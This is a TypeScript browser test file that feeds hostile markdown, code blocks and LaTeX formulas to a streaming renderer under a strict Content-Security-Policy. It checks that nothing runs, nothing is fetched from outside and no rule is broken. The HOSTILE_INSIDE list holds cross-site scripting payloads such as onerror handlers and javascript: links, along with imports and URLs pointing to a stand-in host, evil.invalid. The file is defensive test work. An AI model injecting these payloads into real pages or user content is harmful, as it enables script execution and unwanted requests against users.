import { expect, waitUntil } from '@open-wc/testing';
import { afterEach, describe, inject, it } from 'vitest';
import { FULL } from '../test-support/full-test.js';
import { HOSTILE_MARKDOWN } from '../test-support/hostile-markdown.js';
import type { HostilePage } from '../test-support/hostile-page.js';
import { chunksOf, randomFrom } from '../test-support/random-markdown.js';
import { shownUnsanitised } from '../test-support/unsanitised.js';

/** `'self'` by its address: to Firefox none is the own one of a page that has no address. */
const POLICY = `default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self';
  require-trusted-types-for 'script'; trusted-types lit-html 'allow-duplicates'`.replaceAll(
  "'self'",
  location.origin,
);
const SEED = 20_261_121;

/** What code and formulas are made of when a model is made to write them. */
const HOSTILE_INSIDE: readonly string[] = [
  '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```',
  '```js\n</code></pre><img src=x onerror=alert(1)>\n`${alert(1)}`\n```',
  '```__proto__\nalert(1)\n```',
  '```constructor\nalert(1)\n```',
  '```../../evil\nimport("https://evil.invalid")\n```',
  '```https://evil.invalid/x.js\nx\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$\\class{x" onmouseover="alert(1)}{y}$ $\\url{javascript:alert(1)}$',
  '$$\\includegraphics{https://evil.invalid/x.png}$$',
  '\\[\\text{<img src=x onerror=alert(1)>}\\]',
  '\\(\\def\\a{\\a\\a}\\a\\) $\\unicode{x3c}$ $x \\color{url(https://evil.invalid)}{y}$',
  '$$\n\\style{background:url(https://evil.invalid)}{x} \\tag{<b>}\n$$',
  '<agent-chat src="https://evil.invalid"></agent-chat>\n\n`<agent-chat>` $\\text{<agent-chat>}$',
];

const corpora = inject('hostileCorpora') ?? [];

/** Everything, or as much as a seed draws; each also as code and as a formula. */
function texts(): string[] {
  const random = randomFrom(SEED);
  const drawn = FULL ? corpora : corpora.filter(() => random() < 0.15);
  return [...HOSTILE_MARKDOWN, ...HOSTILE_INSIDE, ...drawn].flatMap((payload, index) => {
    const wrapped = [`\`\`\`html\n${payload}\n\`\`\``, `$$\n${payload}\n$$`, `\\(${payload}\\) $${payload}$`];
    return FULL ? [payload, ...wrapped] : [payload, wrapped[index % wrapped.length] ?? payload];
  });
}

let frame: HTMLIFrameElement | null = null;
afterEach(() => frame?.remove());

interface Page {
  readonly view: HostilePage & typeof globalThis;
  /** What ran, and what the browser reported. */
  readonly seen: string[];
}

async function pageUnderPolicy(): Promise<Page> {
  const seen: string[] = [];
  frame = document.createElement('iframe');
  const script = new URL('../test-support/hostile-page.ts', import.meta.url).href;
  frame.srcdoc = `<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy" content="${POLICY}">
    <script type="module" src="${script}"></script></head><body></body></html>`;
  document.body.append(frame);
  await waitUntil(() => (frame?.contentWindow as HostilePage | null)?.showStreamed !== undefined, 'loaded', {
    timeout: 20_000,
  });
  const view = frame.contentWindow as Page['view'];
  // Vitest loads modules through this, which is in its own page only.
  Object.assign(view, { __vitest_browser_runner__: { wrapDynamicImport: (load: () => unknown) => load() } });
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'] as const) {
    Object.assign(view, { [name]: () => seen.push(`${name} was called`) });
  }
  view.document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
    seen.push(`${violatedDirective} ${blockedURI}`);
  });
  view.addEventListener('error', ({ message }) => seen.push(message));
  view.addEventListener('unhandledrejection', ({ reason }) => seen.push(String(reason)));
  return { view, seen };
}

describe('hostile markdown under a strict policy, with colours and formulas', () => {
  it('runs nothing, fetches nothing and breaks no rule, where an unsanitised renderer runs a lot', {
    timeout: FULL ? 1_800_000 : 60_000,
  }, async () => {
    const { view, seen } = await pageUnderPolicy();
    const random = randomFrom(SEED);
    const all = texts();
    const place = view.location.href;
    for (let done = 0; done < all.length; done += 25) {
      const shown = all.slice(done, done + 25).map(async (text) => {
        const every = text.length <= 60 || FULL;
        const ends = every
          ? [...text].map((_, index) => index)
          : chunksOf(text, random).filter((_, at) => at % 4 === 0);
        return { text, found: await view.showStreamed?.(text, ends.slice(-2_000)) };
      });
      for (const { text, found } of await Promise.all(shown)) expect(found, text).to.deep.equal([]);
    }
    expect(seen).to.deep.equal([]);
    expect(view.location.href).to.equal(place);
    const requests = view.performance.getEntriesByType('resource').map(({ name }) => name);
    expect(requests.filter((name) => new URL(name).host !== location.host)).to.deep.equal([]);
    // The highlighter and the formulas were at work.
    expect(requests.some((name) => name.includes('built-in-math'))).to.equal(true);
    expect(requests.some((name) => name.includes('built-in-highlighter'))).to.equal(true);
    expect(await shownUnsanitised(all)).to.be.at.least(6);
  });

  it('reports what breaks a rule, and what runs', async () => {
    const { view, seen } = await pageUnderPolicy();
    const image = view.document.createElement('img');
    image.src = 'https://images.invalid/x.png';
    view.document.body.append(image);
    view.alert('x');
    await waitUntil(() => seen.length >= 2);
    expect(seen).to.include('alert was called');
    expect(seen.join()).to.contain('img-src https://images.invalid');
  });
});
